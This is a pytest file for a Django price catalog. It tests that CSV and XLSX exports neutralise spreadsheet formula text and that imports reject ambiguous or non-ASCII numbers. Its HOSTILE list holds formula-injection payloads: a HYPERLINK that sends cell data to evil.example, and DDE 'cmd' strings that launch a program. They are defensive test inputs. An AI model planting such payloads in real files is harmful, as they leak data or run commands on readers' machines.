"""Exports that cannot attack their reader, and imports that refuse what they would guess.

- Text cells starting with =, +, -, @, tab or CR are neutralised: a leading apostrophe in
  CSV (removed again on import), a plain string (never a formula) in XLSX.
- Numbers are plain: ASCII digits and a decimal point. `1.234,5`, `1,234.5`, `1_000` and
  other scripts' digits are refused with their row and column.
- A semicolon-separated file (Dutch/German Excel) is read with decimal commas, and the
  preview says so; a point in its numbers is refused.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.test import Client

from catalog.models import CloudOffering
from catalog.services import (
    PriceImportError,
    export_price_list,
    import_price_file,
    preview_price_file,
)
from tests.catalog.price_files import catalog_state, csv_bytes, exported_rows

pytestmark = pytest.mark.django_db

P5 = "aws-p5-48xlarge-od"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1",
    "\r=1",
]


@pytest.fixture
def imported_hostile_sources(seed_catalog: object) -> None:
    """Formula text imported through the real import, as a staff member could."""
    rows = exported_rows("cloud")
    source = rows[0].index("source")
    for row, text in zip(rows[1:], HOSTILE[:4], strict=False):
        row[source] = text
    import_price_file(kind="cloud", filename="p.csv", data=csv_bytes(rows), source="test")


@pytest.fixture
def hostile_sources(imported_hostile_sources: None) -> None:
    """Plus text starting with tab or CR, which the import strips as whitespace, so it is
    written directly (admin edits can store it)."""
    offerings = list(CloudOffering.objects.order_by("-key")[:2])
    for offering, text in zip(offerings, HOSTILE[4:], strict=True):
        CloudOffering.objects.filter(pk=offering.pk).update(source=text)


def test_csv_export_neutralises_formula_text(hostile_sources: None) -> None:
    content = export_price_list(kind="cloud", file_format="csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline="")))
    for row in rows[1:]:
        for cell in row:
            if cell and cell[0] in "=+@\t\r":
                pytest.fail(f"formula text exported raw: {cell!r}")
            if cell.startswith("-") and not _is_number(cell):
                pytest.fail(f"formula text exported raw: {cell!r}")
    sources = [row[rows[0].index("source")] for row in rows[1:]]
    assert "'" + HOSTILE[0] in sources and "'" + HOSTILE[2] in sources


def test_xlsx_export_has_no_formula_cells(hostile_sources: None) -> None:
    for kind in ("cloud", "all"):
        content = export_price_list(kind=kind, file_format="xlsx").content
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        texts = []
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        texts.append(cell.value)
        assert HOSTILE[0] in texts  # kept as text, exactly


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_neutralised_exports_import_back_unchanged(
    imported_hostile_sources: None, file_format: str
) -> None:
    exported = export_price_list(kind="cloud", file_format=file_format)
    before = catalog_state()
    preview = preview_price_file(kind="cloud", filename=exported.filename, data=exported.content)
    assert preview.ok, preview.errors
    assert not preview.changed and not preview.new
    assert catalog_state() == before


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("1.234,5", "is ambiguous"),
        ("1,234.5", "is ambiguous"),
        ("98,5", "has a comma"),
        ("1_000", "contains an underscore"),
        ("\u0661\u0662\u0663", "digits other than 0-9"),  # Arabic-Indic 123
        ("\uff11\uff12", "digits other than 0-9"),  # full-width 12
        ("0x10", "is not a number"),
        ("NaN", "is not a finite number"),
    ],
)
def test_ambiguous_and_foreign_numbers_are_refused_with_row_and_column(
    seed_catalog: object, value: str, reason: str
) -> None:
    rows = exported_rows("cloud")
    rows[2][rows[0].index("price_per_hour")] = value
    before = catalog_state()
    with pytest.raises(PriceImportError) as caught:
        import_price_file(kind="cloud", filename="p.csv", data=csv_bytes(rows), source="t")
    messages = [str(error) for error in caught.value.preview.errors]
    assert any(
        m.startswith("p.csv, row 3, column 'price_per_hour':") and reason in m for m in messages
    ), messages
    assert catalog_state() == before


def test_whole_numbers_refuse_underscores_and_foreign_digits(seed_catalog: object) -> None:
    rows = exported_rows("cloud")
    rows[2][rows[0].index("gpu_count")] = "1_6"
    rows[3][rows[0].index("gpu_count")] = "\u0668"  # Arabic-Indic 8
    preview = preview_price_file(kind="cloud", filename="p.csv", data=csv_bytes(rows))
    messages = " | ".join(str(error) for error in preview.errors)
    assert "row 3, column 'gpu_count': '1_6' contains an underscore" in messages
    assert "row 4, column 'gpu_count'" in messages and "digits other than 0-9" in messages


def _semicolon_file(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";", lineterminator="\n").writerows(rows)
    return buffer.getvalue().encode("utf-8")


def test_a_semicolon_file_with_decimal_commas_is_read_and_noted(seed_catalog: object) -> None:
    rows = exported_rows("cloud")
    price = rows[0].index("price_per_hour")
    key_row = next(row for row in rows if row[0] == P5)
    old = Decimal(key_row[price])
    for row in rows[1:]:
        row[price] = row[price].replace(".", ",")
    key_row[price] = str(old + Decimal("1.5")).replace(".", ",")
    preview = preview_price_file(kind="cloud", filename="nl.csv", data=_semicolon_file(rows))
    assert preview.ok, preview.errors
    assert any("semicolon-separated" in note and "decimal commas" in note for note in preview.notes)
    assert [row.label for row in preview.price_changes] == [P5]
    change = preview.price_changes[0]
    assert change.new_price == old + Decimal("1.5")
    assert abs(change.pct_change or 0) < 0.5  # not the −97.8 % of a misread 1.234,5


def test_a_semicolon_file_with_points_is_refused_with_a_message(seed_catalog: object) -> None:
    rows = exported_rows("cloud")
    price = rows[0].index("price_per_hour")
    rows[2][price] = "1.234,5"
    preview = preview_price_file(kind="cloud", filename="nl.csv", data=_semicolon_file(rows))
    messages = [str(error) for error in preview.errors]
    assert any(
        m.startswith("nl.csv, row 3, column 'price_per_hour':") and "decimal commas" in m
        for m in messages
    ), messages


def test_the_import_page_shows_the_decimal_comma_note(
    admin_client: Client, seed_catalog: object
) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    rows = exported_rows("cloud")
    price = rows[0].index("price_per_hour")
    for row in rows[1:]:
        row[price] = row[price].replace(".", ",")
    upload = SimpleUploadedFile("nl.csv", _semicolon_file(rows), content_type="text/csv")
    response = admin_client.post("/catalog/import/", {"kind": "cloud", "file": upload}, follow=True)
    assert response.status_code == 200
    assert "semicolon-separated file with decimal commas" in response.content.decode()


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True
